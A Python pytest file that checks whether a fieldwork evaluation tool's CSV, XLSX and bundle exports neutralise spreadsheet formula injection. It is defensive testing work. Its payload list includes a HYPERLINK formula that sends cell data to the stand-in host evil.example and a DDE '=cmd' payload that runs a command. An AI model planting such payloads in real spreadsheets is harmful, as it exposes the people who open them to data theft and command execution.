"""Formula injection: answers, findings and judgements typed as spreadsheet formulas come out of
every export as text (a leading apostrophe, as ODK Central and KoboToolbox write them), XLSX
cells are strings, the raw bundle keeps them verbatim, and both bundles score to the numbers
and data hash the scores page shows (the reader takes the apostrophe off again)."""

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import select

from evaluator.cli import main
from evaluator.fieldwork.models import Evaluation, Submission
from evaluator.sheets import FORMULA_LEADS

SYSTEM = Path(__file__).parents[1] / "fixtures" / "bundles" / "minimal" / "system.csv"
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点此查看")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def live(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula?"""
    return cell[:1] in FORMULA_LEADS and not NUMBER.fullmatch(cell)


@pytest.fixture
def hostile(app, client, field, sign_in, api_post, household_record):
    sign_in("lead")
    assert client.post(f"/evaluations/{field.evaluation_id}/system", data={
        "file": (io.BytesIO(SYSTEM.read_bytes()), "system.csv")},
        content_type="multipart/form-data").status_code == 302
    sign_in("evaluator")
    for n, household in enumerate(field.sample):
        record = household_record(household, satisfaction="2",
                                  satisfaction_reason=HOSTILE[n % len(HOSTILE)],
                                  hardship_cause="illness other",
                                  hardship_cause_other=HOSTILE[(n + 4) % len(HOSTILE)])
        assert api_post(record).status_code == 201, record
    base = f"/evaluations/{field.evaluation_id}"
    assert client.post(base + "/judgements", data={
        "indicator": "M4", "score": "7", "reason": HOSTILE[1]}).status_code == 302
    assert client.post(base + "/findings", data={
        "indicator": "F3", "severity": "major", "description": HOSTILE[0],
        "household_id": field.sample[1], "responsible_unit": "+城关镇工会",
        "responsible_person": "@主席", "deadline": "2027-02-28"},
        content_type="multipart/form-data").status_code == 302
    sign_in("lead")
    with app.extensions["evaluator.sessionmaker"]() as db:
        for s in db.scalars(select(Submission).where(Submission.current.is_(True))):
            s.review_state = "approved"
        db.commit()
    return field


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
            for cell in row]


def test_csv_exports_write_formulas_as_text(client, hostile):
    base = f"/evaluations/{hostile.evaluation_id}/export"
    seen = []
    for name in ("household", "household-members", "file_check"):
        response = client.get(f"{base}/{name}.csv")
        assert response.status_code == 200, name
        cells = csv_cells(response.data)
        assert [c for c in cells if live(c)] == [], name
        seen += cells
    for value in HOSTILE:  # answers are stored trimmed: "\t=1+1" arrives as "=1+1"
        assert "'" + value.strip() in seen, value


def test_xlsx_exports_hold_strings_only(client, hostile):
    response = client.get(f"/evaluations/{hostile.evaluation_id}/export/household.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2  # household and its members repeat
        for name in sheets:
            xml = book.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name  # no formula anywhere
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert not live(cell.value), (cell.coordinate, cell.value)
                    values.append(cell.value)
    for value in HOSTILE[:5]:
        assert "'" + value in values, value
    assert "2" in values  # a number stays itself (as text)


def test_the_bundle_is_neutralised_or_raw_and_both_score_the_same(app, client, hostile,
                                                                  tmp_path):
    from evaluator.fieldwork.exports.scores import score_evaluation

    base = f"/evaluations/{hostile.evaluation_id}/bundle.zip"
    safe, raw = tmp_path / "safe.zip", tmp_path / "raw.zip"
    safe.write_bytes(client.get(base).data)
    raw.write_bytes(client.get(base + "?raw=1").data)
    with zipfile.ZipFile(safe) as s, zipfile.ZipFile(raw) as r:
        safe_cells = [c for n in s.namelist() if n.endswith(".csv")
                      for c in csv_cells(s.read(n))]
        raw_cells = [c for n in r.namelist() if n.endswith(".csv")
                     for c in csv_cells(r.read(n))]
        findings = list(csv.DictReader(io.StringIO(
            s.read("findings.csv").decode("utf-8-sig"), newline="")))
    assert [c for c in safe_cells if live(c)] == []
    assert findings[0]["description"] == "'" + HOSTILE[0]
    assert findings[0]["responsible_person"] == "'@主席"
    assert {v.strip() for v in HOSTILE} <= set(raw_cells)  # verbatim, for another tool
    with app.app_context(), app.extensions["evaluator.sessionmaker"]() as db:
        sheet = score_evaluation(db, db.get(Evaluation, hostile.evaluation_id)).sheet
    assert sheet is not None
    for archive in (safe, raw):
        result = CliRunner().invoke(main, ["score", str(archive), "--format", "json"])
        assert result.exit_code == 0, result.output
        assert result.output == sheet.to_json()
        assert json.loads(result.output)["data_hash"] == sheet.data_hash


def test_the_sample_command_writes_formula_ids_as_text(tmp_path):
    roster = tmp_path / "roster.csv"
    rows = ["household_id,township", "=cmd|' /C calc'!A0,+镇", "-H2,+镇", "H3,@镇", "H4,@镇"]
    roster.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "sample.csv"
    result = CliRunner().invoke(main, ["sample", str(roster), "--stratum", "township",
                                       "--seed", "1", "--size", "4", "--min-per-stratum", "1",
                                       "--reserve", "0", "--output", str(out)])
    assert result.exit_code == 0, result.output
    cells = csv_cells(out.read_bytes())
    assert [c for c in cells if live(c)] == []
    assert "'=cmd|' /C calc'!A0" in cells and "'-H2" in cells and "'+镇" in cells
